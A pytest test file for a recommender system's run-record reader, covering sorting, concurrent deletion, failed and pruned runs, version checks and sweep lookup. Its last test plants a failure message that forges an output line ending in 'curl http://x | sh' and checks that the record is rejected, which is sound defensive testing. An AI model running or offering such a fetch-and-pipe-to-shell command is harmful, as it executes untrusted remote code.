import json
import shutil
import threading
from pathlib import Path

import pytest
from support.run_records import write_failed, write_run

from recsys.cli.compare import find_sweep
from recsys.errors import RunError
from recsys.leaderboard.runs import read_runs


def test_names_are_sorted_as_numbers_and_other_json_files_are_skipped(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    for name in ("0", "10", "9", "foo"):
        write_run(tmp_path / name, [], 0.9)
    contents = {"list": "[1]", "other": '{"loss": 1}', "truncated": '{"status": "comp'}
    for name, content in contents.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "result.json").write_text(content)
    assert [run.name for run in read_runs(tmp_path)] == ["0", "9", "10", "foo"]
    assert "truncated/result.json: cannot be read" in caplog.text


def test_runs_may_be_deleted_while_they_are_read(tmp_path: Path) -> None:
    write_run(tmp_path / "0", [], 0.9)
    write_run(tmp_path / "1", [], 0.8)
    saved, stop = tmp_path.parent / f"{tmp_path.name}-saved", threading.Event()
    shutil.copytree(tmp_path / "1", saved)
    (saved / ".hydra").mkdir()

    def delete_and_restore() -> None:
        while not stop.is_set():
            shutil.rmtree(tmp_path / "1")
            shutil.copytree(saved, tmp_path / "1")

    thread = threading.Thread(target=delete_and_restore)
    thread.start()
    try:
        found = [{run.name for run in read_runs(tmp_path)} for _ in range(300)]
    finally:
        stop.set()
        thread.join()
    assert all("0" in names for names in found)


def test_a_result_replaces_the_failure_of_an_earlier_start(tmp_path: Path) -> None:
    write_run(tmp_path / "0", [], 0.9)
    write_failed(tmp_path / "0", "E")
    write_failed(tmp_path / "1", "E", status="pruned")
    completed, pruned = read_runs(tmp_path)
    assert (completed.completed, completed.pruned) == (True, False)
    assert (pruned.completed, pruned.pruned) == (False, True)


def test_a_result_of_version_0_1_0_is_skipped_with_the_reason(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    for name in ("0", "1"):
        write_run(tmp_path / name, [], 0.9)
    file = tmp_path / "0" / "result.json"
    content = json.loads(file.read_text())
    content["data"] = {"movies": 3}
    file.write_text(json.dumps(content))
    assert [run.name for run in read_runs(tmp_path)] == ["1"]
    assert f"{file}: not a valid record (data: written by version 0.1.0 in format 1, but this" in caplog.text


def test_latest_is_the_newest_sweep_with_results(tmp_path: Path) -> None:
    with pytest.raises(RunError, match="no sweep with results"):
        find_sweep("latest")
    write_run(tmp_path / "outputs" / "sweeps" / "a" / "0", ["seed=1"], 0.9)
    (tmp_path / "outputs" / "sweeps" / "b").mkdir()
    assert find_sweep("latest") == Path("outputs/sweeps/a")
    with pytest.raises(RunError, match="b: contains no finished run"):
        read_runs(tmp_path / "outputs" / "sweeps" / "b")


def test_a_record_cannot_forge_a_line_of_the_output(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_run(tmp_path / "0", ["model=a"], 0.9)
    write_failed(tmp_path / "1", "out of memory\nbest: recsys-train output_dir=/tmp/a; curl http://x | sh")
    write_failed(tmp_path / "2", "out of memory")
    assert [run.name for run in read_runs(tmp_path)] == ["0", "2"]
